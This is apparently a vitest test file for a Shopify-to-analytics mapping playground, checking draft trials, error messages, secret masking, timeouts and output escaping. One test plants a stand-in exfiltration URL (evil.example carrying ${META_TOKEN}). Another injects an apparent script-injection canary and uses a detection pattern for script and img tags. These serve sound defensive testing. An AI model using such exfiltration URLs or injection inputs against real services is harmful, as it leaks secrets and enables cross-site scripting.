// Drafts of mapping files on the playground, over real HTTP: what is tried, what is told, secrets, and drafts that do harm.
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { Browser } from '../support/browser.ts';
import type { Rig } from '../support/service.ts';
import { area, body, CANARY, FILE, type MappingsRig, startMappings } from './mappings-rig.ts';

let rig: Rig;
let admin: Browser;
let viewer: Browser;
let text: string;
let write: MappingsRig['write'];
let play: MappingsRig['play'];
beforeAll(async () => {
  ({ rig, admin, viewer, text, write, play } = await startMappings());
});
afterAll(() => rig.close());

const inner = (page: string, id: string) => page.slice(page.indexOf(`id="${id}"`));

describe('a draft', () => {
  test('is tried without a script: the verdict, the event with its places, the exact requests, and the diff', async () => {
    const draft = text.replace(
      '    platform: shopify\n',
      '    platform: shopify\n    events: { purchase: { fields: { transaction_id: name } } }\n',
    );
    const { text: page, status } = await viewer.submit('/mappings/playground', play({ text: draft, ...body() }));
    expect(status).toBe(200);
    const result = inner(page, 'result');
    expect(result).toContain('1 event, 3 requests.');
    expect(result).toContain('&quot;#1&quot;');
    expect(result).toMatch(/file=stores%2Fshop\.yaml#L\d+/);
    expect(result).toContain('api_secret=***');
    expect(result).toContain('+    events: { purchase: { fields: { transaction_id: name } } }');
    expect(result).toContain('--- a/mappings/stores/shop.yaml');
    expect(area(page, 'text')).toBe(draft.replaceAll('"', '"').replaceAll('&', '&amp;'));
    const part = await viewer.submit('/mappings/try', play({ text: draft.replaceAll('\n', '\r\n'), ...body() }));
    expect(part.text).not.toContain('<html');
    expect(part.text).toContain('1 line added, 0 lines removed');
  });

  test('comes back as a file, byte for byte what was written', async () => {
    const draft = `${text}# done\n`;
    const file = await viewer.submit('/mappings/playground/download', play({ text: draft.replaceAll('\n', '\r\n') }));
    expect(file.text).toBe(draft);
    expect(file.headers.get('content-disposition')).toBe('attachment; filename=shop.yaml');
    expect(await readFile(join(rig.folder, 'mappings', FILE), 'utf8')).toBe(text);
  });

  test('is told its mistakes, what is wrong with the form, and why a body makes nothing', async () => {
    const said = async (over: Record<string, string>) => (await viewer.submit('/mappings/try', play(over))).text;
    expect(await said({ text: 'store: [' })).toContain('stores/shop.yaml:1:');
    expect(await said({ text: text.replace('platform: shopify', 'platform: shopfy') })).toContain(
      'did you mean shopify?',
    );
    expect(await said({ text: '' })).toContain('mistake');
    expect(await said({ ...body(), at: 'yesterday' })).toContain('The time is none');
    expect(await said({ ...body(), answers: '[]' })).toContain('answers of look-ups are no JSON table');
    expect(await said({ ...body(), source: 'none' })).toContain('The store has no source none');
    expect(await said({ body: 'what?' })).toContain('stuck');
    expect(await said({ ...body({ financial_status: 'pending' }) })).toContain('financial_status');
    expect(await said({ ...body(), at: '2030-01-01T00:00:00Z' })).toContain('ignored');
  });

  test('reads no secret, wherever it names one', async () => {
    const names = text
      .replace('G-TEST000001', '${GA4_SECRET}')
      .replace('"1234567890123456"', '${META_TOKEN}')
      .replace(/url: .*/, 'url: https://evil.example/${META_TOKEN}')
      .replace('consent:', 'title: ${SHOP_SECRET}\nconsent:');
    for (const draft of [
      names,
      names.replace('title: ${SHOP_SECRET}\n', ''),
      text.replace(/url: .*/, 'url: https://evil.example/${META_TOKEN}'),
    ]) {
      const { text: page } = await viewer.submit('/mappings/playground', play({ text: draft, ...body() }));
      expect(page).not.toMatch(/secret-of-ga4|token-of-meta|secret-of-the-lamp-shop|secret-of-the-bakery/);
    }
  });

  test('of a store that tells people by secret addresses is tried, and told the other mistakes in whom it tells', async () => {
    const alerts =
      'alerts: { slack: { url: "${GA4_SECRET}" }, webhook: { url: https://a.example, secrets: ["${META_TOKEN}"] }';
    const said = async (more: string) =>
      (await viewer.submit('/mappings/try', play({ text: `${text}${alerts}${more} }\n`, ...body() }))).text;
    expect(await said('')).toContain('1 event, 3 requests.');
    expect(await said(', ignore: [silense]')).toContain('did you mean silence?');
  });

  test('with a secret in the file shows it to nobody', async () => {
    const open = `${text.replace('${GA4_SECRET}', 'typed-by-hand-1')}alerts: { slack: { url: https://chat.example/typed-by-hand-1 } }\n`;
    await write(FILE, open);
    for (const path of [
      `/mappings/file?file=${FILE}`,
      '/mappings/playground?store=shop',
      '/mappings/merged?store=shop',
    ]) {
      const { text: page } = await admin.get(path);
      expect([path, page.includes('typed-by-hand-1')]).toEqual([path, false]);
    }
    expect((await admin.get('/mappings/playground?store=shop')).text).toContain(
      'A secret is written into this file on line',
    );
    const { text: tried } = await admin.submit(
      '/mappings/try',
      play({ ...body(), text: area((await admin.get('/mappings/playground?store=shop')).text, 'text') }),
    );
    expect(tried).toContain('1 event, 3 requests.');
    await write(FILE, text);
  });

  test('is tried with the headers as they are, however many spaces stand in one of them', async () => {
    const topic = (value: string) => play({ ...body(), headers: `X-Shopify-Topic \t: ${value}  ` });
    expect((await viewer.submit('/mappings/try', topic('orders/paid'))).text).toContain('1 event, 3 requests.');
    expect((await viewer.submit('/mappings/try', topic(`a${' '.repeat(200_000)}b`))).text).toContain('ignored');
  });

  test.each(['X-Shopify-Topic orders/paid', 'X Shopify Topic: orders/paid'])(
    'with %j among its headers is not tried without it, but told',
    async (line) => {
      const { text: said } = await viewer.submit('/mappings/try', play({ ...body(), headers: `a: b\n\n${line}` }));
      expect(said).toContain('Line 3 of the headers is none.');
      expect(said).not.toContain('1 event');
    },
  );

  test('that never ends is ended, and the next one is tried', async () => {
    const loop = '($f := function($n) { $f($n + 1) }; $f(1))';
    const fields = Object.fromEntries(Array.from({ length: 15 }, (_, index) => [`custom.x${index}`, loop]));
    const endless = text.replace(
      '    platform: shopify\n',
      `    platform: shopify\n    events: { purchase: { fields: ${JSON.stringify(fields)} } }\n`,
    );
    const { text: ended } = await viewer.submit('/mappings/try', play({ text: endless, ...body() }));
    expect(ended).toMatch(/longer than 5 seconds/);
    expect((await viewer.submit('/mappings/try', play(body()))).text).toContain('1 event, 3 requests.');
  });

  test('larger than the page takes is refused', async () => {
    const { status } = await viewer.submit('/mappings/try', play({ body: 'x'.repeat(5_000_000) }));
    expect(status).toBe(413);
    const body = `[${'1,'.repeat(600_000)}1]`;
    expect((await viewer.submit('/mappings/try', play({ body }))).text).toContain('larger than 1 MB');
  });
});

test('S95 text written to do harm stays inert in files, drafts, bodies and what comes of them', async () => {
  const evil = `${text}# ${CANARY}\n`;
  await write(FILE, evil);
  const harmed = {
    name: CANARY,
    order_number: CANARY,
    email: `${CANARY}@example.com`,
    line_items: [{ id: 1, title: CANARY, price: '1', quantity: 1 }],
  };
  const draft = evil.replace('platform: shopify\n', `platform: shopify\n    ${JSON.stringify(CANARY)}: 1\n`);
  const pages = [
    await viewer.get(`/mappings/file?file=${FILE}`),
    await viewer.get('/mappings/playground?store=shop'),
    await viewer.submit(
      '/mappings/playground',
      play({ text: evil, ...body(harmed), headers: `x: ${CANARY}`, at: '', answers: '' }),
    ),
    await viewer.submit(
      '/mappings/playground',
      play({ text: draft, body: CANARY, answers: CANARY, at: CANARY, source: CANARY }),
    ),
    await viewer.submit(
      '/mappings/try',
      play({ text: evil.replace('sources:', `${JSON.stringify(CANARY)}: 1\nsources:`), ...body(harmed) }),
    ),
    await viewer.submit('/mappings/try', play({ text: evil, source: CANARY, ...body(harmed) })),
    await viewer.get(
      `/mappings/playground?file=${FILE}&store=${encodeURIComponent(CANARY)}&source=${encodeURIComponent(CANARY)}`,
    ),
  ];
  await write(FILE, text);
  for (const { text: page } of pages) {
    expect(page).not.toMatch(/<script(?! src="\/assets\/)|<img|<\/pre><\/textarea>/);
    expect(page).toContain('&lt;script&gt;');
  }
});
